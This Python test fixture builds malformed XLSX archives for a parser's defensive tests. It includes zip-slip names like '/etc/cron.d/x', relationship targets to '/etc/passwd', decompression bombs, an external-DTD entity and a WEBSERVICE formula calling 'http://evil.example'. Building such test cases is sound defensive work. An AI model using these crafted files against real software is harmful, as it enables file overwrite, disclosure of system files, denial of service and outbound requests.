"""Workbooks that no program writes: archives with names, methods and parts of somebody's own making, and sheets without end."""

import io
import struct
import zlib
from collections.abc import Callable

from tests.support.bad_files import GOOD, MAIN, MB, NAMES, OFFICE, PACKAGE, parts_of, row, sheet, workbook, zipped

STYLES = f'<styleSheet {MAIN}><numFmts count="1"><numFmt numFmtId="200" formatCode="{{}}"/></numFmts><cellXfs><xf/><xf numFmtId="200"/></cellXfs></styleSheet>'


def raw_zip(*entries: tuple[bytes, bytes, int, int]) -> bytes:
    """A ZIP archive as it is written, not as it should be: names in bytes, flags, methods."""
    out, listed = io.BytesIO(), b""
    for name, content, flags, method in entries:
        at = out.tell()
        crc = zlib.crc32(content)
        head = struct.pack("<HHHHHIIIHH", 20, flags, method, 0, 33, crc, len(content), len(content), len(name), 0)
        out.write(b"PK\x03\x04" + head + name + content)
        listed += b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, at) + name
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(listed), out.tell(), 0)
    return out.getvalue() + listed + b"PK\x05\x06" + end


def as_entries(parts: dict[str, bytes]) -> list[tuple[bytes, bytes, int, int]]:
    return [(name.encode(), content, 0, 0) for name, content in parts.items()]


def shared_bomb() -> bytes:
    parts = parts_of(sheet(NAMES + "".join(row(n, '<c t="s"><v>0</v></c>', '<c t="s"><v>0</v></c>') for n in range(2, 20_000))))
    more = f'<Relationship Id="x" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", more.encode())
    parts["xl/sharedStrings.xml"] = f"<sst {MAIN}><si><t>{'ab ' * 3_300}</t></si></sst>".encode()
    return zipped(parts)


PARTS = parts_of(sheet(GOOD))
OUTSIDE = f'<Relationship Id="r9" Type="{OFFICE}/worksheet" Target="file:///etc/passwd" TargetMode="External"/>'
ODD_BOOKS: dict[str, Callable[[], bytes]] = {
    "a name twice": lambda: raw_zip(*as_entries(PARTS), *as_entries({"xl/worksheets/sheet1.xml": sheet(NAMES)})),
    "an absolute name": lambda: raw_zip(*as_entries(PARTS), (b"/etc/cron.d/x", b"x", 0, 0)),
    "a name of Windows": lambda: raw_zip(*as_entries(PARTS), (b"C:\\x", b"x", 0, 0)),
    "a way up": lambda: raw_zip(*as_entries(PARTS), (b"xl/../../x", b"x", 0, 0)),
    "a name of NUL": lambda: raw_zip(*as_entries(PARTS), (b"x\0y", b"x", 0, 0)),
    "a name in no encoding": lambda: raw_zip(*as_entries(PARTS), (b"\xff\xfe", b"x", 0x800, 0)),
    "an endless name": lambda: raw_zip(*as_entries(PARTS), (b"x" * 60_000, b"x", 0, 0)),
    "an unknown method": lambda: raw_zip(*as_entries({k: v for k, v in PARTS.items() if "sheet1" not in k}), (b"xl/worksheets/sheet1.xml", sheet(GOOD), 0, 99)),
    "nested archives": lambda: zipped({**PARTS, **{f"xl/embeddings/{n}.zip": zipped({"x.zip": zipped({"y": bytes(MB)})}) for n in range(50)}}),
    "a bomb in another part": lambda: zipped({**PARTS, "xl/media/x": bytes(201 * MB)}),
    "a sheet elsewhere": lambda: zipped({**PARTS, "xl/_rels/workbook.xml.rels": PARTS["xl/_rels/workbook.xml.rels"].replace(b"worksheets/sheet1.xml", b"../../../../etc/passwd")}),
    "a sheet outside": lambda: zipped({**PARTS, "xl/_rels/workbook.xml.rels": PARTS["xl/_rels/workbook.xml.rels"].replace(b"<Relationship ", OUTSIDE.encode() + b"<Relationship ", 1)}),
    "a book that is its own sheet": lambda: zipped({**PARTS, "xl/_rels/workbook.xml.rels": PARTS["xl/_rels/workbook.xml.rels"].replace(b"worksheets/sheet1.xml", b"workbook.xml")}),
    "names of the workbook": lambda: zipped({**PARTS, "xl/workbook.xml": PARTS["xl/workbook.xml"].replace(b"</workbook>", b'<definedNames><definedName name="x">WEBSERVICE("http://evil.example")</definedName></definedNames></workbook>')}),
    "links to other books": lambda: zipped({**PARTS, "xl/externalLinks/externalLink1.xml": b"<x/>", "xl/connections.xml": b"<x/>"}),
    "macros of the old kind": lambda: zipped({**PARTS, "xl/macrosheets/sheet1.xml": b"<x/>"}),
    "a signature of macros": lambda: zipped({**PARTS, "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="x" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'.encode()}),
    "an entity": lambda: zipped({**PARTS, "xl/sharedStrings.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><sst/>", "xl/styles.xml": b"<!DOCTYPE x SYSTEM 'http://evil.example/'><x/>"}),
    "another encoding": lambda: zipped({**PARTS, "xl/worksheets/sheet1.xml": b'<?xml version="1.0" encoding="utf-16"?>' + sheet(GOOD).decode().encode("utf-16")}),
    "a depth of elements": lambda: zipped({**PARTS, "xl/worksheets/sheet1.xml": sheet("<x>" * 500_000)}),
    "an element of attributes": lambda: zipped({**PARTS, "xl/worksheets/sheet1.xml": sheet("<row " + " ".join(f"a{n}='x'" for n in range(200_000)) + "/>")}),
    "one text in every cell": shared_bomb,
    "a comment without end": lambda: zipped({**PARTS, "xl/worksheets/sheet1.xml": b"<!--" + bytes(range(32, 127)) * 20_000}),
    "rows of rows": workbook(NAMES + '<row r="2">' * 100_000),
    "cells beyond": workbook(NAMES + "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(2, 2_000))),
    "many merged": workbook(GOOD, after="<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 200_000 + "</mergeCells>"),
    "hidden columns": workbook(GOOD, before="<cols>" + '<col min="1" max="16384" hidden="1"/>' * 200_000 + "</cols>"),
    "a number of digits": workbook(NAMES + row(2, "rail", f"<c><v>{'9' * 3 * MB}</v></c>")),
    "a format of letters": lambda: zipped({**PARTS, "xl/styles.xml": STYLES.format("[" * 500_000).encode(), "xl/_rels/workbook.xml.rels": PARTS["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", f'<Relationship Id="x" Type="{OFFICE}/styles" Target="styles.xml"/></Relationships>'.encode())}),
}  # fmt: skip
